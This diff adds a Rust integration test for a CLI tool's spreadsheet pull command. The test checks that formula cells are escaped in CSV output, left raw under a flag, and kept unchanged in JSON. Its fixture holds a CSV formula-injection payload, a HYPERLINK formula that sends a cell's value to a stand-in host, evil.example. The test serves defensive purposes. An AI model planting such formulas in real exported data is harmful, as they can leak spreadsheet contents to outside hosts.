@@ -313,6 +313,52 @@ async fn sheet_pull_of_some_rows_and_push_with_problems() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sheet_pull_escapes_formula_cells_in_csv_unless_raw_and_leaves_json_alone() {
+    let w = World::start().await;
+    let evil = "=HYPERLINK(\"http://evil.example/\"&A2,\"open\")";
+    w.emulator
+        .add_sheet_from_csv(
+            "s1",
+            0,
+            "Events",
+            &format!(
+                "id,title,year\n01-01,\"{}\",-500\n01-02,@SUM(1),1969\n",
+                evil.replace('"', "\"\"")
+            ),
+        )
+        .unwrap();
+    let pull = |file: &str, raw: bool| {
+        let mut cmd = w.almanac();
+        cmd.args(["sheet", "pull", "s1", "-o", file, "--json"]);
+        if raw {
+            cmd.arg("--raw-csv");
+        }
+        cmd
+    };
+    let out = output(pull("escaped.csv", false)).await;
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let text = std::fs::read_to_string(w.path("escaped.csv")).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(
+        lines[1], "01-01,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A2,\"\"open\"\")\",'-500",
+        "{text}"
+    );
+    assert_eq!(lines[2], "01-02,'@SUM(1),1969", "{text}");
+
+    let out = output(pull("raw.csv", true)).await;
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let text = std::fs::read_to_string(w.path("raw.csv")).unwrap();
+    assert!(text.contains("\n01-02,@SUM(1),1969\n"), "{text}");
+    assert!(text.contains(",-500\n"), "{text}");
+
+    let out = output(pull("events.json", false)).await;
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let doc = read_json(&w.path("events.json"));
+    assert_eq!(doc["01-01"]["title"], evil, "JSON keeps the value");
+    assert_eq!(doc["01-01"]["year"], "-500");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn missing_credentials_are_named() {
     let w = World::start().await;
     w.write("b.jsonl", "{\"custom_id\": \"a\", \"method\": \"POST\", \"url\": \"/v1/chat/completions\", \"body\": {}}\n");
